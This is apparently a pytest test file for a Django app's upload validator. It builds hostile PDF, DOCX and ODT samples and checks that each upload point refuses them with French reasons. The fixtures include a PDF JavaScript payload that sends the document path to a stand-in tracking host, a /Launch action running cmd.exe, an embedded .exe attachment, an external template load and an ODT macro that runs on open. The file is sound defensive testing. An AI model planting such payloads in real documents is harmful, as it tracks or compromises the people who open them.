"""Active content hidden in documents (issue 18, item 1): JavaScript in an object stream
behind a predictor or a chain of filters, a ``/Launch`` action, an ``/OpenAction`` that
opens a web address, an attached file, an unreadable "PDF", a DOCX with an HTML part, a
DOCX that loads its template from outside, a DOCX with an OLE object, an ODT with a macro
bound to its opening. Each is refused at every upload point of the product, through its
real view and a logged-in user of the right role, with the French reason, nothing
stored and what was typed shown again. Plain documents with hyperlinks still pass.

The documents are built in ``tests/security/hostile_documents.py``; none of them was
refused by the byte-pattern check that ``ais/core/uploads.py`` made before.
"""

from typing import NamedTuple

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from ais.core.uploads import DocumentValidator
from tests.security import hostile_documents as build
from tests.security.test_hostile_uploads import ENDPOINTS, _page, _stored_files

OPEN_ACTION = b" /OpenAction 5 0 R"
JAVASCRIPT_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.launchURL('https://pistage.example/'+this.path)) >>"


class Document(NamedTuple):
    name: str
    build: object  # callable returning the bytes
    code: str
    french: str  # the start of the French reason

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.name, self.build(), content_type="application/octet-stream")


HOSTILE = [
    Document(
        "script-flux-objets.pdf",
        lambda: build.pdf(
            catalog=OPEN_ACTION,
            packed={5: JAVASCRIPT_ACTION},
            decode_parms=b"<< /Predictor 12 /Columns 8 >>",
            encoder=build.png_sub_predictor(8),
        ),
        "pdf_javascript",
        "Ce PDF contient du JavaScript",
    ),
    Document(
        "script-ascii85.pdf",
        lambda: build.pdf(
            catalog=OPEN_ACTION, packed={5: JAVASCRIPT_ACTION}, filters=["/ASCII85Decode", "/FlateDecode"]
        ),
        "pdf_javascript",
        "Ce PDF contient du JavaScript",
    ),
    Document(
        "script-asciihex.pdf",
        lambda: build.pdf(
            catalog=OPEN_ACTION, packed={5: JAVASCRIPT_ACTION}, filters=["/ASCIIHexDecode", "/FlateDecode"]
        ),
        "pdf_javascript",
        "Ce PDF contient du JavaScript",
    ),
    Document(
        "script-lzw.pdf",
        lambda: build.pdf(catalog=OPEN_ACTION, packed={5: JAVASCRIPT_ACTION}, filters=["/ASCII85Decode", "/LZWDecode"]),
        "pdf_javascript",
        "Ce PDF contient du JavaScript",
    ),
    Document(
        "lancement.pdf",
        lambda: build.pdf(
            catalog=OPEN_ACTION,
            packed={5: b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"},
            filters=["/FlateDecode", "/FlateDecode"],
        ),
        "pdf_launch",
        "Ce PDF contient une action qui lance un programme",
    ),
    Document(
        "ouverture-adresse.pdf",
        lambda: build.pdf(catalog=b" /OpenAction << /S /URI /URI (https://pistage.example/ouvert) >>"),
        "pdf_automatic_action",
        "Ce PDF déclenche une action de lui-même",
    ),
    Document(
        "piece-jointe.pdf",
        lambda: build.pdf(
            page=b" /Annots [5 0 R]",
            objects={
                5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] "
                b"/FS << /Type /Filespec /F (facture.exe) /EF << /F 6 0 R >> >> >>",
                6: b"<< /Length 22 >>\nstream\nMZ This program cannot\nendstream",
            },
        ),
        "pdf_embedded_file",
        "Ce PDF transporte un fichier joint",
    ),
    Document(
        "illisible.pdf",
        lambda: b"%PDF-1.7\n" + b"\x00\x01 ceci n'est pas un PDF " * 40 + b"\n%%EOF\n",
        "pdf_unreadable",
        "Ce PDF est endommagé ou illisible",
    ),
    Document(
        "page-web.docx",
        lambda: build.docx(
            body=b'<w:altChunk r:id="rId9"/>',
            rels=build.relationships(build.relationship(b"rId9", b"aFChunk", b"page.htm")),
            extra={"word/page.htm": b"<html><body><script>fetch('/compte/')</script></body></html>"},
        ),
        "office_html",
        "Ce document contient une page web, un script ou un programme",
    ),
    Document(
        "modele-externe.docx",
        lambda: build.docx(
            extra={
                "word/settings.xml": b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
                b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                b'<w:attachedTemplate r:id="rId1"/></w:settings>',
                "word/_rels/settings.xml.rels": build.relationships(
                    build.relationship(
                        b"rId1", b"attachedTemplate", b"https://modeles.example/normal.dotm", external=True
                    )
                ),
            }
        ),
        "office_external",
        "Ce document charge du contenu extérieur",
    ),
    Document(
        "objet-ole.docx",
        lambda: build.docx(
            rels=build.relationships(build.relationship(b"rId7", b"oleObject", b"embeddings/oleObject1.bin")),
            extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
        ),
        "office_activex",
        "Ce document contient un objet incorporé ou un contrôle ActiveX",
    ),
    Document(
        "macro-ouverture.odt",
        lambda: build.odt(
            scripts=b'<office:event-listeners><script:event-listener script:language="ooo:script" '
            b'script:event-name="dom:load" '
            b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
            b"</office:event-listeners>"
        ),
        "office_macros",
        "Ce document contient des macros ou des scripts",
    ),
]

BENIGN = [
    ("simple.pdf", lambda: build.pdf()),
    (
        "lien.pdf",
        lambda: build.pdf(
            catalog=b" /OpenAction [3 0 R /Fit]",
            page=b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 10] "
            b"/A << /S /URI /URI (https://www.ais-emploi.example/) >> >>]",
        ),
    ),
    ("ouverture-page.pdf", lambda: build.pdf(catalog=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    ("objets-compresses.pdf", lambda: build.pdf(page=b" /Resources 5 0 R", packed={5: b"<< /ProcSet [/PDF] >>"})),
    (
        "lien.docx",
        lambda: build.docx(
            body=b'<w:p><w:hyperlink r:id="rId3"><w:r><w:t>le site</w:t></w:r></w:hyperlink></w:p>',
            rels=build.relationships(
                build.relationship(b"rId3", b"hyperlink", b"https://www.ais-emploi.example/", external=True),
                build.relationship(b"rId4", b"hyperlink", b"mailto:contact@ais-emploi.example", external=True),
            ),
        ),
    ),
    (
        "lien.odt",
        lambda: build.odt(
            text=b'<text:p><text:a xlink:type="simple" xlink:href="https://www.ais-emploi.example/">le site</text:a>'
            b"</text:p>"
        ),
    ),
]


@pytest.mark.parametrize("document", HOSTILE, ids=[d.name for d in HOSTILE])
def test_validator_refuses_active_content_with_french_reason(document):
    with translation.override("fr"), pytest.raises(ValidationError) as refused:
        DocumentValidator()(document.upload())

    assert refused.value.code == document.code
    assert refused.value.messages[0].startswith(document.french), refused.value.messages[0]


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("document", HOSTILE, ids=[d.name for d in HOSTILE])
def test_upload_point_refuses_active_content_and_keeps_the_form(client, db, settings, endpoint, document):
    target = ENDPOINTS[endpoint](client)
    before = target.stored()

    response = client.post(target.url, {**target.data, target.field: document.upload()})

    assert response.status_code == 400, f"{endpoint}: {response.status_code}"
    page = _page(response)
    assert document.french in page, f"{endpoint}: the French reason is not shown"
    assert target.stored() == before
    assert not _stored_files(settings)
    for typed in target.kept:
        assert typed in page, f"{endpoint}: “{typed}” was not kept"


@pytest.mark.parametrize("name,content", BENIGN, ids=[name for name, _ in BENIGN])
def test_validator_accepts_plain_documents_with_hyperlinks(name, content):
    DocumentValidator()(SimpleUploadedFile(name, content()))


def _restricted_pdf(javascript: bool = False) -> bytes:
    """A PDF encrypted with an empty user password (printing and copying restricted)."""
    import io

    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build.pdf())))
    if javascript:
        writer.add_open_action(JavaScript("app.alert('restreint');"))
    writer.encrypt(user_password="", owner_password="proprietaire", permissions_flag=0, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_validator_reads_a_pdf_encrypted_with_an_empty_password():
    DocumentValidator()(SimpleUploadedFile("restreint.pdf", _restricted_pdf()))
    with pytest.raises(ValidationError) as refused:
        DocumentValidator()(SimpleUploadedFile("restreint-script.pdf", _restricted_pdf(javascript=True)))
    assert refused.value.code == "pdf_javascript"


# Partnership agreements take PDFs only.
BENIGN_AT = [
    pytest.param(endpoint, name, content, id=f"{name}-{endpoint}")
    for endpoint in ENDPOINTS
    for name, content in BENIGN
    if name.endswith(".pdf") or endpoint != "agreements"
]


@pytest.mark.parametrize("endpoint,name,content", BENIGN_AT)
def test_upload_point_accepts_plain_documents_with_hyperlinks(client, db, endpoint, name, content):
    target = ENDPOINTS[endpoint](client)

    response = client.post(target.url, {**target.data, target.field: SimpleUploadedFile(name, content())})

    assert response.status_code == 302, f"{endpoint}: {_page(response)[:3000]}"
    assert target.stored() == 1
